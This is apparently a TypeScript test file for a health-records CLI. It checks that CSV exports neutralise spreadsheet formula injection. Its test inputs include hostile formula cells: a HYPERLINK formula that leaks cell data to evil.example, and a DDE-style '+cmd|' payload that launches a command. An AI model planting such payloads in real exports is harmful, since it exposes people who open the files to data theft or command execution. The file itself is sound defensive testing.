import {mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {parse} from 'csv-parse/sync'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {csvField, neutraliseCsvCell, tableToCsv} from '../../src/lib/export/csv.js'
import type {Table} from '../../src/lib/export/tables.js'
import {repoRoot, runJson, useTempHome, initHome, type TestHome} from '../helpers/cli.js'

/** Issue 18 #8: CSV formula injection. */
describe('CSV cells are neutralised against formula injection (OWASP)', () => {
  it('prefixes a single quote to strings starting with = + - @ tab or CR', () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example","click")',
      '@SUM(A1)',
      "+cmd|' /C calc'!A0",
      '-cmd',
      '\t=1+1',
      '\r=1+1',
      '=1',
      '-2+3',
      '+',
      '-',
      '@',
    ]) {
      expect(neutraliseCsvCell(cell), cell).toBe(`'${cell}`)
    }
  })

  it('leaves other strings and numbers as they are (a negative number is data, not a formula)', () => {
    for (const cell of ['Diabetes', 'a=b', ' =1', "'=already", '', 'E11.9', '-5', '+1.5', '-0.25', '2e-3', '-.5'])
      expect(neutraliseCsvCell(cell), cell).toBe(cell)
    expect(csvField(-5)).toBe('-5')
    expect(csvField(-0.25)).toBe('-0.25')
    expect(csvField(true)).toBe('true')
    expect(csvField(null)).toBe('')
  })

  it('neutralises before quoting, and csv-parse reads the neutralised text back', () => {
    const table: Table = {
      name: 'conditions',
      columns: [
        {name: 'display', type: 'STRING'},
        {name: 'value', type: 'DOUBLE'},
      ],
      rows: [
        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', -1.5],
        ['@SUM(A1)', 2],
        ['-cmd,"x"', null],
        ['ok', -0],
      ],
    }
    const rows = parse(tableToCsv(table), {columns: true}) as Array<Record<string, string>>
    expect(rows.map((r) => r.display)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(A1)", '\'-cmd,"x"', 'ok'])
    expect(rows.map((r) => r.value)).toEqual(['-1.5', '2', '', '0'])
  })
})

describe('research export as CSV from an imported legacy CSV with formula cells (CLI)', () => {
  let t: TestHome
  let dir: string
  beforeAll(async () => {
    t = useTempHome()
    dir = join(t.home, 'in')
    mkdirSync(dir)
    const mapping = readFileSync(join(repoRoot, 'test', 'fixtures', 'records', 'legacy-mapping.json'), 'utf8')
    writeFileSync(join(dir, 'mapping.json'), mapping)
    writeFileSync(
      join(dir, 'legacy.csv'),
      [
        'mrn,last_name,first_name,dob,sex,zip,visit_date,hba1c,dx_code,dx_name,rx_code,rx_name',
        'A-100,Rocinante,Pedro,1961-02-03,M,02139,2023-05-01,6.1,44054006,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",860975,@SUM(A1)',
        'A-101,Panza,Teresa,1978-11-23,F,01002,2023-06-12,5.4,73211009,-cmd,860976,+1+1',
      ].join('\n') + '\n',
    )
    await initHome(t)
    const imported = await runJson(['records', 'import', join(dir, 'legacy.csv'), '--mapping', join(dir, 'mapping.json'), '--no-anchor'])
    expect(imported.exitCode, JSON.stringify(imported.envelope)).toBe(0)
    expect((await runJson(['profile', 'create', 'lab'])).exitCode).toBe(0)
    for (const mrn of ['A-100', 'A-101']) {
      const g = await runJson([
        'consent',
        'grant',
        '--patient',
        `http://legacy.example/mrn|${mrn}`,
        '--grantee',
        'lab',
        '--purpose',
        'HRESCH',
        '--classes',
        'demographics,conditions,medications,labs',
        '--until',
        '365d',
      ])
      expect(g.exitCode, JSON.stringify(g.envelope)).toBe(0)
    }
  }, 300_000)
  afterAll(async () => t.cleanup())

  it('conditions.csv and medications.csv hold the formula cells neutralised', async () => {
    const out = join(t.home, 'export')
    const r = await runJson([
      'export',
      'research',
      '--grantee',
      'lab',
      '--classes',
      'demographics,conditions,medications,labs',
      '--format',
      'csv',
      '--k',
      '1',
      '--out',
      out,
    ])
    expect(r.exitCode, JSON.stringify(r.envelope)).toBe(0)
    const read = (name: string) => parse(readFileSync(join(out, name), 'utf8'), {columns: true}) as Array<Record<string, string>>
    const conditions = read('conditions.csv')
    const medications = read('medications.csv')
    const cells = [...conditions, ...medications].flatMap((row) => Object.values(row))
    expect(conditions.map((c) => c.display).sort()).toEqual(["'-cmd", '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'])
    expect(medications.map((m) => m.display).sort()).toEqual(["'+1+1", "'@SUM(A1)"])
    // No cell of any table starts a formula.
    for (const name of ['patients.csv', 'conditions.csv', 'medications.csv', 'observations.csv']) {
      for (const row of read(name))
        for (const cell of Object.values(row)) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d|\.\d)/)
    }
    expect(cells.length).toBeGreaterThan(0)
  })
})
